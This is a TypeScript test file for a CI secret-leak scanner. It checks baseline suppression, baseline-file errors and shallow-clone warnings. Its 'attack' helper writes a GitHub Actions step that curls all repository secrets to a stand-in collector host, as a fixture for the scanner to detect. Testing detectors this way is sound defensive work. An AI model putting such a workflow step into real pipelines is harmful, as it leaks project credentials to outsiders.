/** `scan --baseline`, and what a shallow clone is told. */
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { workflow } from "../golden/project-files.ts";
import { ALL_SECRETS, COLLECTOR, CURL, REQUEST_BIN } from "../golden/put-together.ts";
import { createGitHistory } from "../simulator/git-history.ts";
import { ADA } from "../support/a-running-simulator.ts";
import { runCli } from "./run-cli.ts";

const folder = mkdtempSync(join(tmpdir(), "countersign-baseline-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const attack = (host: string) =>
  workflow({
    on: "push",
    head: "",
    steps: `- name: Process\n  run: ${CURL} -d "$CONTENTS" ${host}/bb8ca5f6\n  env:\n    CONTENTS: ${ALL_SECRETS}`,
  });

test("what an earlier scan found is accepted, and what is new is reported", async () => {
  const history = createGitHistory({ gitDir: join(folder, "repository.git") });
  history.commit({ message: "First\n", author: ADA, files: { "README.md": "# App\n" } });
  history.commit({ message: "Second\n", author: ADA, files: { ".github/workflows/a.yml": attack(REQUEST_BIN) } });
  const first = await runCli(["scan", history.gitDir, "--format", "jsonl"], {});
  expect(first.code).toBe(1);
  const known = join(folder, "known.jsonl");
  writeFileSync(known, first.stdout);
  expect((await runCli(["scan", history.gitDir, "--baseline", known], {})).code).toBe(0);
  history.commit({ message: "Third\n", author: ADA, files: { ".github/workflows/b.yml": attack(COLLECTOR) } });
  const second = await runCli(["scan", history.gitDir, "--baseline", known], {});
  expect(second.code).toBe(1);
  expect(second.stdout).toContain("workflows/b.yml");
  expect(second.stdout).not.toContain("workflows/a.yml");
}, 120_000);

test("a file that is none of a scan is a mistake in the call", async () => {
  const other = join(folder, "other.jsonl");
  writeFileSync(other, '{"hello":1}\n');
  expect(await runCli(["scan", folder, "--baseline", other], {})).toMatchObject({
    code: 2,
    stderr: expect.stringContaining("line 1 is none of"),
  });
}, 60_000);

test("a shallow clone says how to fetch the rest", async () => {
  const shallow = join(folder, "shallow");
  execFileSync("git", ["clone", "--quiet", "--depth", "1", `file://${join(folder, "repository.git")}`, shallow]);
  const { stderr } = await runCli(["scan", shallow], {});
  expect(stderr).toContain("fetch-depth: 0");
}, 60_000);
